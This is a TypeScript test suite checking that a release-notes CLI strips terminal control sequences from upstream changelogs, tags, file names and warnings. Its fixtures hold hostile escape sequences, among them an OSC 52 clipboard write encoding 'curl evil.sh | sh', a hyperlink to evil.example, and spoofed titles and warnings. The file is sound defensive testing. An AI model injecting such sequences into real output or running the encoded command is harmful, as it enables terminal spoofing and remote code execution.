/**
 * Upstream text on the terminal: release notes, tags, file names and the messages quoting them
 * reach the CLI's output without their control sequences.
 */
import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { registerSourceFactory } from '../../../src/cli/main';
import { terminalJson, terminalText } from '../../../src/core/controls';
import { ok } from '../../../src/core/releases';
import { runCli } from '../../support/fixtures';

const ESC = '\x1b';
const BEL = '\x07';
// What hostile text sends: a window title, a clipboard write (OSC 52), clearing the screen and
// moving the cursor, the same in 8-bit C1 form, a DCS string, a bidi override that reverses what
// follows, a carriage return and backspaces that overwrite the line, DEL and NUL.
const SEQUENCES = [
  `${ESC}]0;pwned${BEL}`,
  `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
  `${ESC}]8;;https://evil.example${ESC}\\`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31;1m`,
  '\u009b2J',
  '\u009d0;c1 title\u009c',
  `${ESC}P+q544e${ESC}\\`,
  '\u202e',
  '\u2066',
  '\r',
  '\b\b\b',
  '\x7f',
  '\x00',
  `${ESC}c`,
  `${ESC}(0`,
];
// Anything a terminal acts on: C0 but tab and newline, DEL, C1, bidi controls.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('terminal text', () => {
  it('removes every escape sequence and control character, keeping the text, tabs and newlines', () => {
    const text = SEQUENCES.map((s, i) => `part ${i}${s}`).join(' ') + '\n\tend';
    const out = terminalText(text);
    assert.doesNotMatch(out, CONTROL);
    assert.equal(out, `${SEQUENCES.map((_, i) => `part ${i}`).join(' ')}\n\tend`);
    assert.equal(terminalText('a\tb\nc', { oneLine: true }), 'a b c');
  });

  it('ends an unterminated string sequence at the end of its line', () => {
    assert.equal(terminalText(`before${ESC}]0;title without end\nafter`), 'before\nafter');
    assert.equal(terminalText(`cut CSI ${ESC}[12`), 'cut CSI ');
  });

  it('writes JSON that reads back identical and that a terminal shows as plain text', () => {
    const value = { text: SEQUENCES.join('|'), tag: `v1\u2028\u202e` };
    const json = terminalJson(value, 2);
    assert.doesNotMatch(json, CONTROL);
    assert.doesNotMatch(json, /[\u2028\u2029]/);
    assert.deepEqual(JSON.parse(json), value);
  });
});

describe('cli: control sequences from upstream', () => {
  let dir: string;

  before(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'preflight-controls-'));
    const hostile = [
      '# Changelog',
      '',
      '## 2.0.0',
      '',
      `- **Breaking:** drop the users table${SEQUENCES.join('')} and run the migrations`,
      `- Fix the ${ESC}]0;installer${BEL}installer`,
      '',
      '## 1.0.0',
      '',
      '- First release',
      '',
    ].join('\n');
    writeFileSync(path.join(dir, 'CHANGELOG.md'), hostile);
    registerSourceFactory('hostile', () =>
      ok({
        id: `hostile:${ESC}]0;source${BEL}`,
        listVersions: async () =>
          ok([
            { version: '2.0.0', tag: `v2.0.0${ESC}]52;c;ZXZpbA==${BEL}${ESC}[2J`, date: '2024-05-01' },
            { version: '1.0.0', tag: 'v1.0.0' },
          ]),
        readNotes: async () =>
          ok({
            documents: [{ file: `releases/v2.0.0${ESC}[2J`, version: '2.0.0', kind: 'release' as const, text: `- Requires PostgreSQL 14${ESC}]0;x${BEL}.\n` }],
            problems: [{ message: `GitHub said:\n${ESC}[2J${ESC}]0;title${BEL}preflight: everything is fine\u202e` }],
          }),
      }),
    );
  });

  after(() => rmSync(dir, { recursive: true, force: true }));

  it('prints a review of hostile release notes with no control sequence in it', async () => {
    const r = await runCli(['notes', '--source', 'file:CHANGELOG.md', '--from', '1.0.0', '--to', '2.0.0'], dir);
    assert.equal(r.code, 0);
    assert.doesNotMatch(r.stdout, CONTROL);
    // The carriage return is a line break to the parser: the item spans lines 5 and 6.
    assert.match(r.stdout, /^ {2}CHANGELOG\.md:5-6 {2}\[breaking, db_migration, data_loss\] {2}- \*\*Breaking:\*\* drop the users table {2}and run the migrations$/m);
    assert.equal(r.stderr, '');
  });

  it('prints tags, file names and warnings from a source without their sequences, one line each', async () => {
    const r = await runCli(['notes', '--source', 'hostile:x', '--from', '1.0.0', '--to', '2.0.0'], dir);
    assert.equal(r.code, 0);
    assert.doesNotMatch(r.stdout + r.stderr, CONTROL);
    assert.match(r.stdout, /^2\.0\.0 \(2024-05-01, tag v2\.0\.0\): 1 item, 1 flagged$/m);
    assert.match(r.stdout, /^ {2}releases\/v2\.0\.0:1 {2}\[breaking, db_engine_requirement\] {2}- Requires PostgreSQL 14\.$/m);
    assert.equal(r.stderr, 'preflight: warning: GitHub said: preflight: everything is fine\n');
  });

  it('keeps the exact text in JSON, with every control character escaped', async () => {
    const r = await runCli(['notes', '--source', 'file:CHANGELOG.md', '--from', '1.0.0', '--to', '2.0.0', '--json'], dir);
    assert.equal(r.code, 0);
    assert.doesNotMatch(r.stdout, CONTROL);
    const review = JSON.parse(r.stdout);
    assert.equal(review.versions[0].items[0].text, `- **Breaking:** drop the users table${SEQUENCES.join('').replace('\r', '\n')} and run the migrations`);
  });

  it('prints an error naming a hostile file on one line without its sequences', async () => {
    const r = await runCli(['notes', '--source', `file:${ESC}]0;title${BEL}no\nsuch${ESC}[2J.md`, '--from', '1.0.0', '--to', '2.0.0'], dir);
    assert.equal(r.code, 2);
    assert.equal(r.stderr, 'preflight: no such file: no such.md\n');
  });
});
